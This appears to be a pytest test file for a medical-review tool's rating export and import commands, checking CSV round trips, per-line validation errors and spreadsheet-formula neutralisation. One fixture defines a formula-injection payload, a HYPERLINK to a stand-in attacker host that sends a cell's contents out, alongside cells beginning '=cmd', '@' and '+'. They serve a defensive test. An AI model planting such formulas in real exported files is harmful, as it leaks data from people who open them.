"""Ratings out and in (`medres review export` / `medres review import`): every rating leaves as
one CSV row per rater, unit and dimension, and the same layout read back gives the same
statistics; a bad row is a one-line error naming its line and field, and nothing is written."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from conftest import one_error_line, rate_all, rubric_a_values
from medresilience.cli import app
from medresilience.review import ReviewDB, sample_review
from medresilience.review.exchange import COLUMNS, export_ratings, import_ratings
from medresilience.review.stats import compute
from medresilience.runtime.errors import InputError
from test_review_app import hostile_suite

RATERS = ("alice", "bob", "carol")


@pytest.fixture(scope="module")
def rated(tmp_path_factory):
    root = tmp_path_factory.mktemp("exchange")
    suite = hostile_suite(root / "suite")
    out = root / "review"
    sample_review("A", suite, out, n=12, raters=3, reviewers=list(RATERS), seed=2)
    # the fifth task skipped, the seventh left to do (not exported); comments with a quote, a comma and a line break
    rate_all(
        out,
        rubric_a_values,
        raters=RATERS,
        flags=lambda i: ["outdated", "gold_incorrect"] if i % 4 == 0 else [],
        comment=lambda n: 'a "quoted", comma\nline' if n % 3 == 0 else "",
        skip=lambda n: n == 5,
        leave=lambda n: n == 7,
    )
    return out


def test_export_has_one_row_per_rater_unit_and_dimension(rated, tmp_path):
    path = tmp_path / "ratings.csv"
    n = export_ratings(rated, path)
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == n
    assert tuple(list(rows[0])[:5]) == COLUMNS and "stratum_content_type" in rows[0]
    with ReviewDB(rated) as db:
        ratings = [r for r in db.ratings() if r["status"] == "rated"]
        skipped = [r for r in db.ratings() if r["status"] == "skipped"]
    dims = [r for r in rows if r["dimension"] not in ("flag", "comment", "status")]
    assert len(dims) == 6 * len(ratings)  # six rubric-A dimensions per rating
    assert {(r["rater"], r["unit"], r["dimension"]): r["value"] for r in dims} == {
        (r["reviewer"], r["unit_id"], k): v for r in ratings for k, v in r["values"].items()
    }
    assert sum(r["dimension"] == "flag" for r in rows) == sum(len(r["flags"]) for r in ratings)
    assert [(r["rater"], r["unit"]) for r in rows if r["dimension"] == "status"] == [(r["reviewer"], r["unit_id"]) for r in skipped]
    assert any(r["value"] == 'a "quoted", comma\nline' for r in rows if r["dimension"] == "comment")


def test_imported_ratings_give_the_same_statistics(rated, tmp_path):
    path = tmp_path / "ratings.csv"
    export_ratings(rated, path)
    res = import_ratings(path, "A", tmp_path / "imported")
    before, after = compute(rated, n_resamples=200, seed=3), compute(tmp_path / "imported", n_resamples=200, seed=3)
    assert (res.units, res.raters, res.skipped) == (12, 3, 1)
    assert res.ratings == int((before.ratings["status"] == "rated").sum())
    pd.testing.assert_frame_equal(before.pass_rates, after.pass_rates)
    pd.testing.assert_frame_equal(before.agreement.drop(columns="reviewers"), after.agreement.drop(columns="reviewers"))
    pd.testing.assert_frame_equal(before.flags, after.flags)
    assert before.composite == after.composite
    # and out again: the same rows
    again = tmp_path / "again.csv"
    export_ratings(tmp_path / "imported", again)
    key = lambda rows: sorted(map(tuple, rows))  # noqa: E731
    with open(path, newline="") as a, open(again, newline="") as b:
        assert key(csv.reader(a)) == key(csv.reader(b))


def _write(path, rows, header=(*COLUMNS, "stratum_source")):
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


@pytest.mark.parametrize(
    "rows, line, field, message",
    [
        ([["ann", "u1", "", "base_validity", "3", "x"]], 2, "value", "not on the base_validity scale"),
        ([["ann", "u1", "", "colour", "2", "x"]], 2, "dimension", "not a dimension of rubric A"),
        ([["ann", "u1", "", "flag", "odd", "x"]], 2, "value", "is not one of rubric A's"),
        ([["a<b>", "u1", "", "base_validity", "2", "x"]], 2, "rater", "reviewer name"),
        ([["ann", "u1", "", "base_validity", "2", "x"], ["ann", "u1", "", "base_validity", "1", "x"]], 3, "dimension", "twice"),
        ([["ann", "u1", "i1", "base_validity", "2", "x"], ["bob", "u1", "i2", "base_validity", "1", "x"]], 3, "item", "differs from its first row"),
        ([["ann", "u1", "", "base_validity", "2"]], 2, None, "5 cells, the header has 6"),
        ([["", "u1", "", "base_validity", "2", "x"]], 2, "rater", "empty"),
    ],
)
def test_a_bad_row_names_its_line_and_field_and_writes_nothing(tmp_path, rows, line, field, message):
    path = _write(tmp_path / "bad.csv", rows)
    with pytest.raises(InputError, match=message) as e:
        import_ratings(path, "A", tmp_path / "out")
    assert (e.value.line, e.value.field) == (line, field)
    assert not (tmp_path / "out").exists()


def test_a_bad_header(tmp_path):
    with pytest.raises(InputError, match="the header lacks dimension, value"):
        import_ratings(_write(tmp_path / "h.csv", [], header=("rater", "unit", "item")), "A", tmp_path / "o")
    with pytest.raises(InputError, match="unknown column"):
        import_ratings(_write(tmp_path / "h2.csv", [], header=(*COLUMNS, "model")), "A", tmp_path / "o")


def test_cli_export_then_import_then_stats(rated, tmp_path):
    runner = CliRunner()
    path = tmp_path / "r.csv"
    r = runner.invoke(app, ["review", "export", str(rated), "--out", str(path)])
    assert r.exit_code == 0, r.output
    r = runner.invoke(app, ["review", "import", str(path), "--rubric", "A", "--out", str(tmp_path / "imp")])
    assert r.exit_code == 0, r.output
    assert "of 12 units by 3 raters" in r.output
    r = runner.invoke(app, ["review", "stats", str(tmp_path / "imp"), "--resamples", "50"])
    assert r.exit_code == 0, r.output
    assert "Gwet's AC1" in r.output
    r = runner.invoke(app, ["review", "import", str(path), "--rubric", "A", "--out", str(tmp_path / "imp")])
    assert r.exit_code == 2 and "already exists" in r.output
    _write(tmp_path / "bad.csv", [["ann", "u1", "", "base_validity", "9", "x"]])
    r = runner.invoke(app, ["review", "import", str(tmp_path / "bad.csv"), "--rubric", "A", "--out", str(tmp_path / "b")])
    assert r.exit_code == 2 and "bad.csv:2: field 'value'" in r.output


runner = CliRunner()


RATINGS_HEADER = "rater,unit,item,dimension,value\n"


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def _cells(path: Path) -> list[list[str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _review_with_formulas(tmp_path: Path) -> Path:
    """A review whose comments, unit ids and strata hold what a spreadsheet would run."""
    import csv

    from medresilience.review.exchange import import_ratings

    src = tmp_path / "typed.csv"
    with open(src, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["rater", "unit", "item", "dimension", "value", "stratum_model"])
        w.writerow(["ann", "@u1", "q1", "false_presupposition", "yes", "=cmd"])
        w.writerow(["ann", "@u1", "q1", "comment", FORMULA, "=cmd"])
        w.writerow(["ann", "u2", "+q2", "false_presupposition", "no", "-0.5"])
        w.writerow(["ann", "u2", "+q2", "comment", "''=already quoted", "-0.5"])  # read by the rule: '=already quoted
        w.writerow(["bob", "u2", "+q2", "comment", "-0.5", "-0.5"])
    import_ratings(src, "premise", tmp_path / "review")
    return tmp_path / "review"


def test_an_unclosed_quote_swallowing_ratings_is_refused_with_its_line(tmp_path):
    """The comment on line 3 opens a quote it never closes: the four rows after it would be read as
    the comment's text (1 rating imported, exit 0); they are rows of the header's shape, so the
    file is refused naming line 3, and no review is written."""
    f = tmp_path / "ratings.csv"
    f.write_text(
        RATINGS_HEADER + "ann,u1,q1,false_presupposition,yes\n"
        'ann,u1,q1,comment,"the premise is wrong\n'
        "ann,u2,q2,false_presupposition,no\n"
        "bob,u1,q1,false_presupposition,yes\n"
        "bob,u2,q2,false_presupposition,no\n"
        "cat,u2,q2,false_presupposition,no\n",
        encoding="utf-8",
    )
    line = one_error_line(runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")]))
    assert f"{f}:3" in line and "unclosed quote" in line and "line 4" in line, line
    assert not (tmp_path / "review").exists()


def test_a_comment_spanning_lines_imports_and_the_counts_are_told(tmp_path):
    """A quoted comment with line breaks whose lines are not shaped like rows is kept whole; the
    import says how many rows it read against the file's lines."""
    from medresilience.review.db import ReviewDB

    f = tmp_path / "ratings.csv"
    f.write_text(
        RATINGS_HEADER + 'ann,u1,q1,false_presupposition,yes\nann,u1,q1,comment,"first line, then\nsecond line\n\nlast"\nann,u2,q2,false_presupposition,no\n',
        encoding="utf-8",
    )
    r = runner.invoke(app, ["review", "import", str(f), "--rubric", "premise", "--out", str(tmp_path / "review")])
    assert r.exit_code == 0, r.output
    assert "2 ratings (0 skipped) of 2 units by 1 raters" in r.output and "from 3 rows read in 7 lines (with the header)" in r.output, r.output
    with ReviewDB(tmp_path / "review") as db:
        assert [x["comment"] for x in db.ratings() if x["unit_id"] == "u1"] == ["first line, then\nsecond line\n\nlast"]


def test_review_export_neutralises_formulas_and_its_import_reads_them_back(tmp_path):
    from medresilience.review.db import ReviewDB

    review = _review_with_formulas(tmp_path)
    out = tmp_path / "export.csv"
    r = runner.invoke(app, ["review", "export", str(review), "--out", str(out)])
    assert r.exit_code == 0, r.output
    rows = _cells(out)
    assert ["ann", "'@u1", "q1", "comment", "'" + FORMULA, "'=cmd"] in rows
    assert ["ann", "u2", "'+q2", "comment", "''=already quoted", "-0.5"] in rows
    assert ["bob", "u2", "'+q2", "comment", "-0.5", "-0.5"] in rows  # a number stays a number
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "@")], rows
    # round trip: the export imported is the review that was exported
    r = runner.invoke(app, ["review", "import", str(out), "--rubric", "premise", "--out", str(tmp_path / "again")])
    assert r.exit_code == 0, r.output
    with ReviewDB(review) as a, ReviewDB(tmp_path / "again") as b:
        first = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in a.ratings())
        second = sorted((x["reviewer"], x["unit_id"], x["comment"], sorted(x["values"].items())) for x in b.ratings())
        assert first == second
        assert {u.unit_id: (u.item_id, u.strata) for u in a.units().values()} == {u.unit_id: (u.item_id, u.strata) for u in b.units().values()}
        assert {FORMULA, "'=already quoted", "-0.5"} <= {x["comment"] for x in b.ratings()}
    runner.invoke(app, ["review", "export", str(tmp_path / "again"), "--out", str(tmp_path / "export2.csv")])
    assert (tmp_path / "export2.csv").read_bytes() == out.read_bytes()
